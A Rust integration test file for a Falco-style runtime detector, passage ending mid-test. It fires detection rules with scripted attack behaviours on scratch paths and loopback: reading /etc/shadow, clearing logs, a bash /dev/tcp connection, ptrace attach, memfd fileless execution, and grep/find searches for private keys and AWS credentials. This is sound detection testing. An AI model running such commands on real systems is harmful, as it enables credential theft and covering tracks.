//! Live tests of `quell run -- sh -c '...'`: true positives from the
//! event-generator catalogue (capture.md §3) and a benign near miss for each,
//! on scratch paths and loopback addresses only. Each run's recording must
//! replay to the same alerts.
//!
//! They need root and a BPF-capable kernel. Where
//! `quell_capture::check_support` says capture cannot run they are reported
//! as ignored (see `main`); otherwise `quell run` failing to capture fails
//! the test.

#[path = "../../quell-capture/tests/common/live_harness.rs"]
#[macro_use]
mod live_harness;

use std::path::Path;
use std::process::{Command, Output};

use serde_json::Value as Json;

const QUELL: &str = env!("CARGO_BIN_EXE_quell");
const STABLE: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../../shared/corpus/falco-rules/falco_rules.yaml"
);
const INCUBATING: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../../shared/corpus/falco-rules/falco-incubating_rules.yaml"
);

/// Fails the test, saying why, when live capture cannot run here (the
/// harness has then reported it as ignored unless `QUELL_LIVE_TESTS=1`).
fn require_live() {
    if let Err(e) = quell_capture::check_support() {
        panic!("live capture cannot run here: {e}");
    }
}

/// Whether this process runs as uid 0 (which user `quell run` is refused to).
fn is_root() -> bool {
    std::fs::read_to_string("/proc/self/status")
        .unwrap_or_default()
        .lines()
        .find(|l| l.starts_with("Uid:"))
        .and_then(|l| l.split_whitespace().nth(2).map(|u| u == "0"))
        .unwrap_or(false)
}

struct Run {
    alerts: Vec<Json>,
    replayed: Vec<Json>,
    stderr: String,
}

impl Run {
    fn rules(&self) -> Vec<String> {
        self.alerts
            .iter()
            .map(|a| a["rule"].as_str().unwrap_or("").to_string())
            .collect()
    }
    fn alert(&self, rule: &str) -> &Json {
        self.alerts
            .iter()
            .find(|a| a["rule"] == rule)
            .unwrap_or_else(|| {
                panic!(
                    "rule `{rule}` did not fire; fired: {:?}\nstderr: {}",
                    self.rules(),
                    self.stderr
                )
            })
    }
    fn fired(&self, rule: &str) -> bool {
        self.alerts.iter().any(|a| a["rule"] == rule)
    }
}

fn alerts(out: &Output) -> Vec<Json> {
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| {
            serde_json::from_str::<Json>(l).unwrap_or_else(|e| panic!("bad alert line {l}: {e}"))
        })
        .collect()
}

/// Runs `quell run --json --record` on `sh -c script` in `dir` with the given
/// rules files (none: the bundled default ruleset), then replays the record.
fn quell_run(dir: &Path, rules: &[&str], script: &str) -> Run {
    require_live();
    let rec = dir.join("record.jsonl");
    let mut cmd = Command::new(QUELL);
    cmd.arg("run").arg("--json").arg("--record").arg(&rec);
    for r in rules {
        cmd.arg("-r").arg(r);
    }
    let out = cmd
        .arg("--")
        .arg("sh")
        .arg("-c")
        .arg(script)
        .current_dir(dir)
        .output()
        .expect("run quell");
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(
        out.status.success(),
        "quell run failed ({}): {stderr}",
        out.status
    );
    assert!(
        stderr.contains(" 0 dropped"),
        "events were dropped: {stderr}"
    );
    let live = alerts(&out);
    let mut rp = Command::new(QUELL);
    rp.arg("replay").arg("--json");
    for r in rules {
        rp.arg("-r").arg(r);
    }
    let rout = rp.arg(&rec).output().expect("run quell replay");
    assert!(
        rout.status.success(),
        "replay failed: {}",
        String::from_utf8_lossy(&rout.stderr)
    );
    let replayed = alerts(&rout);
    let key = |a: &Json| {
        (
            a["rule"].clone(),
            a["output_fields"].clone(),
            a["output"].clone(),
        )
    };
    assert_eq!(
        live.iter().map(key).collect::<Vec<_>>(),
        replayed.iter().map(key).collect::<Vec<_>>(),
        "replaying the recording must give the live alerts"
    );
    Run {
        alerts: live,
        replayed,
        stderr,
    }
}

fn scratch() -> tempfile::TempDir {
    tempfile::Builder::new()
        .prefix("quell-live-")
        .tempdir()
        .expect("tempdir")
}

fn f<'a>(a: &'a Json, k: &str) -> &'a Json {
    &a["output_fields"][k]
}

fn clear_log_by_truncation() {
    let d = scratch();
    let r = quell_run(d.path(), &[], ": > syslog");
    let a = r.alert("Clear Log Activities");
    assert_eq!(
        f(a, "fd.name"),
        &Json::from(format!("{}/syslog", d.path().display()))
    );
    assert_eq!(f(a, "proc.name"), "sh");
    assert_eq!(f(a, "proc.pname"), "quell");
    assert_eq!(f(a, "proc.cmdline"), "sh -c : > syslog");
    assert_eq!(f(a, "user.name"), "root");
    assert_eq!(f(a, "evt.arg.flags"), "O_TRUNC|O_CREAT|O_WRONLY");
    // the upstream stable rule sees the same behaviour
    let r = quell_run(d.path(), &[STABLE], ": > syslog");
    assert_eq!(f(r.alert("Clear Log Activities"), "proc.name"), "sh");
}

fn clear_log_near_miss_append() {
    let d = scratch();
    let r = quell_run(d.path(), &[], "echo x >> syslog; : > notes.txt");
    assert!(!r.fired("Clear Log Activities"), "{:?}", r.rules());
}

fn clear_log_by_rm() {
    // a private tmpfs over /var/log in a new mount namespace: the host's logs are untouched
    let d = scratch();
    let script = "unshare --mount --propagation private sh -c \
                  'mount -t tmpfs quell-test /var/log && touch /var/log/quell-test.log && rm /var/log/quell-test.log'";
    let r = quell_run(d.path(), &[], script);
    let a = r.alert("Clear Log Activities");
    assert_eq!(f(a, "fs.path.name"), "/var/log/quell-test.log");
    assert_eq!(f(a, "proc.name"), "rm");
    assert_eq!(f(a, "proc.pname"), "sh");
    assert_eq!(f(a, "proc.cmdline"), "rm /var/log/quell-test.log");
    assert!(r
        .replayed
        .iter()
        .any(|x| x["rule"] == "Clear Log Activities"));
}

fn clear_log_near_miss_rm_elsewhere() {
    let d = scratch();
    let r = quell_run(d.path(), &[], "touch app.log && rm app.log");
    assert!(!r.fired("Clear Log Activities"), "{:?}", r.rules());
}

fn read_sensitive_file() {
    let d = scratch();
    let r = quell_run(d.path(), &[], "cat /etc/shadow > /dev/null");
    let a = r.alert("Read Password or Sudoers Database");
    assert_eq!(f(a, "fd.name"), "/etc/shadow");
    assert_eq!(f(a, "proc.name"), "cat");
    assert_eq!(f(a, "proc.pname"), "sh");
    assert_eq!(f(a, "proc.aname[2]"), "quell");
    assert_eq!(f(a, "user.name"), "root");
    let r = quell_run(d.path(), &[STABLE], "cat /etc/shadow > /dev/null");
    assert_eq!(
        f(r.alert("Read sensitive file untrusted"), "fd.name"),
        "/etc/shadow"
    );
}

fn read_sensitive_file_near_miss() {
    let d = scratch();
    let r = quell_run(d.path(), &[], "cat /etc/hostname > /dev/null");
    assert!(
        !r.fired("Read Password or Sudoers Database"),
        "{:?}",
        r.rules()
    );
}

fn shell_spawned_by_web_server() {
    let d = scratch();
    let r = quell_run(
        d.path(),
        &[],
        "cp /bin/sh ./httpd && ./httpd -c 'sh -c true; true'",
    );
    let a = r.alert("Shell Spawned by Web Server");
    assert_eq!(f(a, "proc.name"), "sh");
    assert_eq!(f(a, "proc.pname"), "httpd");
    assert_eq!(f(a, "proc.aname[2]"), "sh");
    assert_eq!(f(a, "proc.cmdline"), "sh -c true");
    assert_eq!(f(a, "proc.pcmdline"), "httpd -c sh -c true; true");
    let r = quell_run(
        d.path(),
        &[STABLE],
        "cp /bin/sh ./httpd && ./httpd -c 'sh -c true; true'",
    );
    assert!(r.fired("Run shell untrusted"), "{:?}", r.rules());
}

fn shell_spawned_near_miss() {
    let d = scratch();
    let r = quell_run(
        d.path(),
        &[],
        "cp /bin/sh ./myapp && ./myapp -c 'sh -c true; true'",
    );
    assert!(!r.fired("Shell Spawned by Web Server"), "{:?}", r.rules());
}

fn execution_from_dev_shm() {
    let d = scratch();
    let name = format!("/dev/shm/quell-live-{}.sh", std::process::id());
    let script = format!("printf '#!/bin/sh\\ntrue\\n' > {name} && chmod +x {name} && {name}; sh -c {name}; rm -f {name}");
    let r = quell_run(d.path(), &[], &script);
    let a = r.alert("Execution from Temporary Directory");
    assert_eq!(f(a, "proc.exepath"), &Json::from(name.clone()));
    let r = quell_run(d.path(), &[STABLE], &script);
    let a = r.alert("Execution from /dev/shm");
    assert_eq!(f(a, "proc.name"), "sh");
    assert_eq!(f(a, "proc.cmdline"), &Json::from(format!("sh -c {name}")));
}

fn execution_from_dev_shm_near_miss() {
    let d = scratch();
    let r = quell_run(d.path(), &[], "cd /dev/shm && /bin/true");
    assert!(
        !r.fired("Execution from Temporary Directory"),
        "{:?}",
        r.rules()
    );
}

fn symlink_over_sensitive_file() {
    let d = scratch();
    let r = quell_run(d.path(), &[], "ln -s /etc/shadow shadow_link");
    let a = r.alert("Symlink Created Over Sensitive File");
    assert_eq!(f(a, "evt.arg.target"), "/etc/shadow");
    assert_eq!(f(a, "evt.arg.linkpath"), "shadow_link");
    assert_eq!(f(a, "proc.name"), "ln");
    let r = quell_run(d.path(), &[STABLE], "ln -s /etc/shadow shadow_link2");
    assert!(
        r.fired("Create Symlink Over Sensitive Files"),
        "{:?}",
        r.rules()
    );
}

fn symlink_near_miss() {
    let d = scratch();
    let r = quell_run(d.path(), &[], "ln -s /etc/hostname host_link");
    assert!(
        !r.fired("Symlink Created Over Sensitive File"),
        "{:?}",
        r.rules()
    );
}

fn loopback_listener() -> (u16, std::thread::JoinHandle<()>) {
    let l = std::net::TcpListener::bind("127.0.0.1:0").expect("listen on loopback");
    let port = l.local_addr().expect("addr").port();
    let h = std::thread::spawn(move || {
        l.set_nonblocking(false).ok();
        let _ = l.accept();
    });
    (port, h)
}

fn shell_connects_to_loopback_listener() {
    let d = scratch();
    let (port, h) = loopback_listener();
    let script = format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; echo hi >&3'");
    let r = quell_run(d.path(), &[], &script);
    let _ = h.join();
    let a = r.alert("Outbound Connection from Shell");
    assert_eq!(f(a, "proc.name"), "bash");
    assert_eq!(f(a, "proc.pname"), "sh");
    assert_eq!(f(a, "fd.sip"), "127.0.0.1");
    assert_eq!(f(a, "fd.sport"), port);
    assert_eq!(f(a, "fd.l4proto"), "tcp");
    assert!(f(a, "fd.name")
        .as_str()
        .unwrap_or("")
        .ends_with(&format!("->127.0.0.1:{port}")));
}

fn connect_near_miss_not_a_shell() {
    let d = scratch();
    let (port, h) = loopback_listener();
    let script =
        format!("cp /bin/bash ./client && ./client -c 'exec 3<>/dev/tcp/127.0.0.1/{port}'");
    let r = quell_run(d.path(), &[], &script);
    let _ = h.join();
    assert!(
        !r.fired("Outbound Connection from Shell"),
        "{:?}",
        r.rules()
    );
}

fn ptrace_attach() {
    let d = scratch();
    let script = "sleep 30 & P=$!; perl -e 'syscall(101, 16, $ARGV[0] + 0, 0, 0)' $P; kill -9 $P";
    let r = quell_run(d.path(), &[], script);
    let a = r.alert("PTRACE Attach to Process");
    assert_eq!(f(a, "evt.arg.request"), "PTRACE_ATTACH");
    assert_eq!(f(a, "proc.name"), "perl");
    assert_eq!(f(a, "proc.pname"), "sh");
    let r = quell_run(d.path(), &[STABLE], script);
    assert!(r.fired("PTRACE attached to process"), "{:?}", r.rules());
}

fn ptrace_near_miss_peek() {
    let d = scratch();
    let r = quell_run(d.path(), &[], "perl -e 'syscall(101, 2, 999999, 0, 0)'");
    assert!(!r.fired("PTRACE Attach to Process"), "{:?}", r.rules());
}

const MEMFD_EXEC: &str = "perl -e 'my $n = \"quelltest\"; my $fd = syscall(319, $n, 0); die \"memfd\" if $fd < 0; \
    open(my $o, \">&=\", $fd) or die; open(my $i, \"<\", \"/bin/true\") or die; binmode $i; \
    my $d = do { local $/; <$i> }; syswrite($o, $d) or die; exec {\"/proc/self/fd/$fd\"} \"quelltest\" or die;'";

fn fileless_execution_via_memfd() {
    let d = scratch();
    let r = quell_run(d.path(), &[], MEMFD_EXEC);
    let a = r.alert("Fileless Execution via memfd");
    assert!(f(a, "proc.exepath")
        .as_str()
        .unwrap_or("")
        .starts_with("memfd:quelltest"));
    assert_eq!(f(a, "proc.pname"), "sh");
    let r = quell_run(d.path(), &[STABLE], MEMFD_EXEC);
    assert!(
        r.fired("Fileless execution via memfd_create"),
        "{:?}",
        r.rules()
    );
}

fn fileless_near_miss_regular_exec() {
    let d = scratch();
    let r = quell_run(
        d.path(),
        &[],
        "perl -e 'exec {\"/bin/true\"} \"quelltest\"'",
    );
    assert!(!r.fired("Fileless Execution via memfd"), "{:?}", r.rules());
}

/// Creates a cgroup named as docker names a container's (`docker-<64 hex>.scope`) in the
/// cgroup v2 unified hierarchy only, and returns (container id, cgroup path). `tag` (6 hex
/// digits) keeps the ids of different tests apart; the caller removes the cgroup.
fn container_cgroup(tag: &str) -> (String, String) {
    let unified = std::fs::read_to_string("/proc/self/mountinfo")
        .ok()
        .and_then(|t| {
            t.lines().find_map(|l| {
                let (pre, post) = l.split_once(" - ")?;
                (post.split_whitespace().next()? == "cgroup2")
                    .then(|| pre.split_whitespace().nth(4).map(str::to_string))?
            })
        })
        .expect("as root, a cgroup2 (unified) hierarchy must be mounted");
    let id = format!("{:016x}{}", std::process::id(), tag.repeat(8));
    assert_eq!(id.len(), 64);
    let cg = format!("{unified}/docker-{id}.scope");
    std::fs::create_dir(&cg).expect("create the container cgroup");
    (id, cg)
}

/// The seed scenario: a shell in a "container" (own mount, PID and UTS
/// namespaces, a cgroup v2 named as docker names it, its own root filesystem)
/// deletes /var/log/dpkg.log; the alert carries the container id, and the
/// recording replays to the same alert.
fn container_deletes_dpkg_log() {
    require_live();
    let (id, cg) = container_cgroup("c0ffee");
    let d = scratch();
    let rootfs = d.path().join("rootfs");
    let r = rootfs.display();
    let script = format!(
        r#"set -e
R={r}
mkdir -p $R/var/log $R/proc $R/tmp
touch $R/var/log/dpkg.log
for d in usr bin sbin lib lib64 etc; do
  if [ -L /$d ]; then ln -s "$(readlink /$d)" $R/$d; elif [ -d /$d ]; then mkdir -p $R/$d; fi
done
echo $$ > {cg}/cgroup.procs
exec unshare --mount --pid --uts --fork --propagation private sh -c '
  set -e
  hostname quell-ctr
  for d in usr bin sbin lib lib64 etc; do
    if [ -d /$d ] && [ ! -L /$d ]; then mount --rbind /$d {r}/$d; fi
  done
  exec chroot {r} /bin/sh -c "rm /var/log/dpkg.log"'
"#
    );
    let run = quell_run(d.path(), &[], &script);
    let _ = std::fs::remove_dir(&cg);
    let a = run
        .alerts
        .iter()
        .find(|a| a["rule"] == "Clear Log Activities" && f(a, "evt.type") == "unlinkat")
        .unwrap_or_else(|| panic!("no log deletion alert: {:?}\n{}", run.alerts, run.stderr));
    assert_eq!(f(a, "container.id"), &Json::from(id[..12].to_string()));
    assert_eq!(f(a, "fs.path.name"), "/var/log/dpkg.log");
    assert_eq!(f(a, "proc.name"), "rm");
    assert!(!rootfs.join("var/log/dpkg.log").exists());
    assert!(run
        .replayed
        .iter()
        .any(|x| x["rule"] == "Clear Log Activities"
            && x["output_fields"]["container.id"] == id[..12]));
}

fn unsupported_is_one_sentence_and_exit_2() {
    if is_root() {
        // As root capture works; check the message for a non-root user when one exists.
        let Ok(out) = Command::new("setpriv")
            .args([
                "--reuid=65534",
                "--regid=65534",
                "--clear-groups",
                QUELL,
                "run",
                "--",
                "true",
            ])
            .output()
        else {
            panic!("setpriv (util-linux) is needed to run quell as another user");
        };
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{err}");
        assert!(err.contains("needs root"), "{err}");
        assert!(
            !err.contains("panicked") && !err.contains("backtrace"),
            "{err}"
        );
        assert_eq!(err.trim().lines().count(), 1, "{err}");
    } else {
        let out = Command::new(QUELL)
            .args(["run", "--", "true"])
            .output()
            .expect("run quell");
        assert_eq!(out.status.code(), Some(2));
        assert!(String::from_utf8_lossy(&out.stderr).contains("needs root"));
    }
}

/// Drop and execute: in a "container" (docker-named cgroup, own mount
/// namespace) whose root is an overlay mount, a binary copied into the
/// overlay (its upper layer) and run fires the drift rules; a binary of the
/// lower layer (the "image") run in the same container does not.
fn container_drop_and_execute_new_binary() {
    require_live();
    let (id, cg) = container_cgroup("d0d0ca");
    // Not below a temporary directory (/tmp, /var/tmp, /dev/shm), wherever the repository is
    // cloned: executions from those match an earlier rule. /run is root-writable tmpfs.
    let d = tempfile::Builder::new()
        .prefix("quell-live-")
        .tempdir_in("/run")
        .expect("tempdir in /run");
    let o = d.path().display();
    let script = format!(
        "set -e; mkdir -p {o}/l {o}/u {o}/w {o}/m; cp /bin/true {o}/l/imagebin
echo $$ > {cg}/cgroup.procs
exec unshare --mount --propagation private sh -c '
  mount -t overlay overlay -o lowerdir={o}/l,upperdir={o}/u,workdir={o}/w {o}/m
  {o}/m/imagebin
  cp /bin/true {o}/m/dropped
  {o}/m/dropped'"
    );
    let run = quell_run(d.path(), &[], &script);
    let stable = quell_run(d.path(), &[STABLE], &script.replace("dropped", "dropped2"));
    let _ = std::fs::remove_dir(&cg);
    let drift: Vec<&Json> = run
        .alerts
        .iter()
        .filter(|a| a["rule"] == "Drop and Execute New Binary in Container")
        .collect();
    assert_eq!(drift.len(), 1, "{:?}\n{}", run.rules(), run.stderr);
    assert_eq!(f(drift[0], "proc.name"), "dropped");
    assert_eq!(
        f(drift[0], "proc.exepath"),
        &Json::from(format!("{o}/m/dropped"))
    );
    assert_eq!(
        f(drift[0], "container.id"),
        &Json::from(id[..12].to_string())
    );
    let up: Vec<&Json> = stable
        .alerts
        .iter()
        .filter(|a| a["rule"] == "Drop and execute new binary in container")
        .collect();
    assert_eq!(up.len(), 1, "{:?}\n{}", stable.rules(), stable.stderr);
    assert_eq!(f(up[0], "proc.name"), "dropped2");
    assert!(
        f(up[0], "proc.exe_ino.ctime").as_u64().unwrap_or(0) > 0,
        "{}",
        up[0]
    );
}

/// `quell run` without `--record` leaves in the kernel the opens no rule can
/// match and the closes of fds userspace never saw; the alerts must be those
/// of a run that captures everything (`--record` turns the prefilter off),
/// including a path resolved against a directory opened without O_DIRECTORY
/// (the program must see from the returned fd that it is a directory).
fn prefilter_leaves_every_alert_in_place() {
    require_live();
    let d = scratch();
    let dir = d.path().display().to_string();
    // the directory is opened without O_DIRECTORY (its path matches no rule:
    // only its inode says it must be kept), then auth.log is truncated through it
    let script = format!(
        "for i in $(seq 200); do cat /etc/hostname > /dev/null; : > f$i.txt; done; \
         cat /etc/shadow > /dev/null; ln -s /etc/shadow link; : > syslog; \
         perl -e 'open(my $d, \"<\", \"{dir}\") or die; \
                  my $n = \"auth.log\"; \
                  syscall(257, fileno($d), $n, 01101, 0644) >= 0 or die \"openat: $!\"; \
                  select(undef, undef, undef, 0.5)'"
    );
    let run = |record: bool, fd_helper: bool| {
        let mut cmd = Command::new(QUELL);
        if fd_helper {
            cmd.env("QUELL_CAPTURE_FD_HELPER", "1");
        }
        cmd.arg("run").arg("--json").arg("-r").arg(STABLE);
        if record {
            cmd.arg("--record").arg(d.path().join("all.jsonl"));
        }
        let out = cmd
            .arg("--")
            .arg("sh")
            .arg("-c")
            .arg(&script)
            .current_dir(d.path())
            .output()
            .expect("run quell");
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        assert!(out.status.success(), "quell run failed: {stderr}");
        let mut got: Vec<(String, String)> = alerts(&out)
            .iter()
            .map(|a| {
                let name = a["output_fields"]["fd.name"]
                    .as_str()
                    .unwrap_or("")
                    .to_string();
                (a["rule"].as_str().unwrap_or("").to_string(), name)
            })
            .collect();
        got.sort();
        (got, stderr)
    };
    let (filtered, stderr) = run(false, false);
    let (all, _) = run(true, false);
    assert_eq!(
        filtered, all,
        "the prefilter changed the alerts; stderr: {stderr}"
    );
    // the portable program (fd arrays read through a helper) decides the same
    let (portable, portable_stderr) = run(false, true);
    assert_eq!(
        portable, all,
        "the portable program changed the alerts; stderr: {portable_stderr}"
    );
    let through_dirfd = format!("{dir}/auth.log");
    assert!(
        filtered
            .iter()
            .any(|(r, n)| r == "Clear Log Activities" && *n == through_dirfd),
        "no log-clearing alert on {through_dirfd}: {filtered:?}"
    );
    assert!(filtered
        .iter()
        .any(|(r, _)| r == "Read sensitive file untrusted"));
    assert!(filtered
        .iter()
        .any(|(r, _)| r == "Create Symlink Over Sensitive Files"));
    // what the kernel kept back, from the summary line
    let count = |stderr: &str, what: &str| -> u64 {
        let i = stderr
            .find(what)
            .unwrap_or_else(|| panic!("no `{what}` in {stderr}"));
        stderr[..i]
            .split_whitespace()
            .last()
            .and_then(|n| n.parse().ok())
            .unwrap_or(0)
    };
    for e in [&stderr, &portable_stderr] {
        eprintln!(
            "{}",
            e.lines()
                .find(|l| l.contains("left in the kernel"))
                .unwrap_or("")
        );
        assert!(count(e, " opens no rule needs") >= 400, "{e}");
        assert!(count(e, " closes of fds quell never saw") >= 400, "{e}");
    }
    // both programs leave the same opens in the kernel (within noise: the
    // script's shells and cats do not open exactly the same files each run)
    let (direct, portable) = (
        count(&stderr, " opens no rule needs"),
        count(&portable_stderr, " opens no rule needs"),
    );
    assert!(
        direct * 100 >= portable * 95 && portable * 100 >= direct * 95,
        "opens left in the kernel: {direct} (direct fd reads) vs {portable} (portable)"
    );
}

/// A rule on `close` that reads no fd field fires on closes of fds quell
/// never saw (here an eventfd, a call quell does not capture): with such a
/// rule loaded, those closes are not left in the kernel.
fn a_rule_on_close_sees_closes_of_unknown_fds() {
    require_live();
    let d = scratch();
    let rules = d.path().join("close.yaml");
    std::fs::write(
        &rules,
        "- rule: perl closes\n  desc: any close by perl\n  condition: evt.type = close and proc.name = perl\n  output: \"close of %evt.arg.fd by %proc.name\"\n  priority: NOTICE\n",
    )
    .unwrap();
    // eventfd2(0, 0) = fd, then close(fd); perl's own closes happen too
    let script = "perl -e 'my $fd = syscall(290, 0, 0); $fd >= 0 or die \"eventfd: $!\"; \
                  print STDERR \"eventfd=$fd\\n\"; syscall(3, $fd) == 0 or die \"close: $!\"'";
    let out = Command::new(QUELL)
        .arg("run")
        .arg("--json")
        .arg("-r")
        .arg(&rules)
        .arg("--")
        .arg("sh")
        .arg("-c")
        .arg(script)
        .current_dir(d.path())
        .output()
        .expect("run quell");
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(out.status.success(), "{stderr}");
    let fd: i64 = stderr
        .lines()
        .find_map(|l| l.strip_prefix("eventfd="))
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or_else(|| panic!("no eventfd line: {stderr}"));
    let closed: Vec<i64> = alerts(&out)
        .iter()
        .filter_map(|a| {
            let v = &a["output_fields"]["evt.arg.fd"];
            v.as_i64()
                .or_else(|| v.as_str().and_then(|s| s.parse().ok()))
        })
        .collect();
    assert!(
        closed.contains(&fd),
        "no alert for the close of eventfd {fd}: {closed:?}; {stderr}"
    );
    assert!(
        stderr.contains(", 0 closes of fds quell never saw"),
        "{stderr}"
    );
}

/// `grep -r` and `find -execdir` walk a tree through directory fds they
/// duplicate with `fcntl(F_DUPFD_CLOEXEC)`: a key read under the searched
/// tree has its full path in `fd.name` (not a name from quell's own fds
/// before the exec), and `proc.cwd` after `fchdir` is the directory.
fn a_key_read_under_a_searched_tree_has_its_full_path() {
    let d = scratch();
    let rules = d.path().join("key.yaml");
    std::fs::write(
        &rules,
        "- rule: key read\n  desc: a private key opened for reading\n  condition: evt.type in (open, openat, openat2) and evt.is_open_read = true and fd.filename = id_ed25519\n  output: \"key %fd.name read by %proc.name in %proc.cwd\"\n  priority: WARNING\n",
    )
    .unwrap();
    std::fs::create_dir_all(d.path().join("keys/sub")).unwrap();
    std::fs::write(d.path().join("keys/sub/id_ed25519"), "-----BEGIN KEY\n").unwrap();
    let rules = rules.display().to_string();
    let script =
        "grep -r BEGIN keys > /dev/null; find keys -name id_ed25519 -execdir cat {} \\; > /dev/null";
    let r = quell_run(d.path(), &[&rules], script);
    let dir = d.path().display().to_string();
    let key = format!("{dir}/keys/sub/id_ed25519");
    let check = |alerts: &[Json]| {
        let by = |name: &str| {
            alerts
                .iter()
                .find(|a| f(a, "proc.name") == name)
                .unwrap_or_else(|| panic!("no alert for {name}: {alerts:?}"))
        };
        assert_eq!(f(by("grep"), "fd.name"), &Json::from(key.clone()));
        let cat = by("cat");
        assert_eq!(f(cat, "fd.name"), &Json::from(key.clone()));
        assert_eq!(f(cat, "proc.cwd"), &Json::from(format!("{dir}/keys/sub/")));
    };
    // recorded (every syscall captured) and as the rules alone ask
    check(&r.alerts);
    let out = Command::new(QUELL)
        .args(["run", "--json", "-r", &rules, "--", "sh", "-c", script])
        .current_dir(d.path())
        .output()
        .expect("run quell");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    check(&alerts(&out));
}

/// `quell run` says once, at start-up, which loaded rules can never fire
/// live and why (here a rule on `container.mount.dest`, which live capture
/// does not read); the stable `Contact K8S API Server From Container`, whose
/// `fd.sip.name` is now given from the names its condition mentions, is no
/// longer among them.
fn start_up_names_the_rules_that_can_never_fire_live() {
    require_live();
    let d = scratch();
    let rules = d.path().join("mount.yaml");
    std::fs::write(
        &rules,
        "- rule: Mounted etc\n  desc: d\n  condition: evt.type = openat and container.mount.dest[/etc] exists\n  \
         output: o\n  priority: INFO\n",
    )
    .unwrap();
    let out = Command::new(QUELL)
        .args(["run", "-r", STABLE, "-r"])
        .arg(&rules)
        .args(["--", "true"])
        .output()
        .expect("run quell");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    let header: Vec<&str> = stderr
        .lines()
        .filter(|l| l.contains("can never fire under live capture"))
        .collect();
    assert_eq!(header.len(), 1, "{stderr}");
    assert!(
        stderr
            .lines()
            .any(|l| l.contains("Mounted etc") && l.contains("container.mount.dest")),
        "{stderr}"
    );
    assert!(
        !stderr.contains("Contact K8S API Server From Container"),
        "{stderr}"
    );
    // the default rules all can fire: nothing is said
    let out = Command::new(QUELL)
        .args(["run", "--", "true"])
        .output()
        .expect("run quell");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!stderr.contains("never fire"), "{stderr}");
}

/// `fd.sip.name` as Falco gives it: the host names a condition compares the
/// field with are resolved (here `localhost`, through /etc/hosts) and a
/// connection to one of their addresses carries the name; a connection to
/// another loopback address (127.0.0.2) does not. The stable rule's own name
/// (`kubernetes.default.svc.cluster.local`) does not resolve on a test
/// machine, so a rule of the same shape on `localhost` stands in for it.
fn server_host_name_from_the_names_conditions_mention() {
    let d = scratch();
    let rules = d.path().join("dns.yaml");
    std::fs::write(
        &rules,
        "- macro: api_server\n  condition: (fd.sip.name=\"localhost\")\n\
         - rule: Contact local API server\n  desc: d\n  \
         condition: evt.type=connect and (fd.typechar=4 or fd.typechar=6) and api_server\n  \
         output: contact (server=%fd.sip.name ip=%fd.sip port=%fd.sport)\n  priority: NOTICE\n",
    )
    .unwrap();
    let udp = |ip: &str| {
        format!(
            "perl -e 'use Socket; socket(my $s, PF_INET, SOCK_DGRAM, 0) or die; \
             connect($s, pack_sockaddr_in(9, inet_aton(\"{ip}\"))) or die \"connect: $!\"'"
        )
    };
    let script = format!("{}; {}", udp("127.0.0.1"), udp("127.0.0.2"));
    let r = quell_run(d.path(), &[rules.to_str().unwrap()], &script);
    let a = stable_alerts(&r, "Contact local API server");
    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
    assert_eq!(f(a[0], "fd.sip.name"), "localhost");
    assert_eq!(f(a[0], "fd.sip"), "127.0.0.1");
    assert!(!r.stderr.contains("never fire"), "{}", r.stderr);
}

/// Credential searches and a traversal read, with the upstream stable rules:
/// `grep` for a private key header and `find` for key or AWS credential
/// names fire, as does reading /etc/hostname through `../` from a process
/// whose parent is no shell (`timeout`); the same programs searching for
/// other things do not.
fn credential_searches_and_traversal_read() {
    let d = scratch();
    std::fs::write(d.path().join("notes.txt"), "hello\n").unwrap();
    let dir = d.path().display().to_string();
    let depth = "../".repeat(dir.matches('/').count());
    let script = format!(
        "grep -r 'BEGIN OPENSSH PRIVATE' . > /dev/null; find . -name id_ed25519 > /dev/null; \
         find . -path '*/.aws/credentials' > /dev/null; timeout 5 cat {depth}etc/hostname > /dev/null; \
         grep -r hello . > /dev/null; find . -name notes.txt > /dev/null"
    );
    let r = quell_run(d.path(), &[STABLE], &script);
    let search = r
        .alerts
        .iter()
        .filter(|a| a["rule"] == "Search Private Keys or Passwords")
        .map(|a| f(a, "proc.name").as_str().unwrap_or("").to_string())
        .collect::<Vec<_>>();
    assert_eq!(search, ["grep", "find"], "{:?}", r.rules());
    assert_eq!(f(r.alert("Find AWS Credentials"), "proc.name"), "find");
    let t = r.alert("Directory traversal monitored file read");
    assert_eq!(f(t, "fd.name"), "/etc/hostname");
    assert_eq!(f(t, "proc.pname"), "timeout");
    assert_eq!(
        r.alerts.len(),
        4,
        "the near misses fire nothing: {:?}",
        r.rules()
    );
}

/// A "container" for the stable rules' `container` macro: a cgroup v2 named as
/// docker names a container's (see [`container_cgroup`]; its tag must be
/// hex digits), removed on drop. A script joins it with [`Ctr::enter`]. The
/// stable rules' outputs carry no container id: their `container` macro
/// firing is what shows the container was seen.
struct Ctr {
    cg: String,
}

impl Ctr {
    fn new(tag: &str) -> Ctr {
        require_live();
        let (_, cg) = container_cgroup(tag);
        Ctr { cg }
    }
    /// Shell text moving the running shell (and so what it starts) into the container.
    fn enter(&self) -> String {
        format!("echo $$ > {}/cgroup.procs", self.cg)
    }
}

impl Drop for Ctr {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir(&self.cg);
    }
}

fn stable_alerts<'a>(r: &'a Run, rule: &str) -> Vec<&'a Json> {
    r.alerts.iter().filter(|a| a["rule"] == rule).collect()
}

/// Read sensitive file trusted after startup: a server program (a shell copy
/// named `nginx`) reads /etc/shadow itself more than 5 s after it started;
/// the same read by a fresh `nginx` (the near miss) is not this rule's.
fn read_sensitive_file_trusted_after_startup() {
    let d = scratch();
    let script = "cp /bin/sh ./nginx; ./nginx -c 'sleep 6; read x < /etc/shadow; true'; \
                  ./nginx -c 'read x < /etc/shadow; true'";
    let r = quell_run(d.path(), &[STABLE], script);
    let a = stable_alerts(&r, "Read sensitive file trusted after startup");
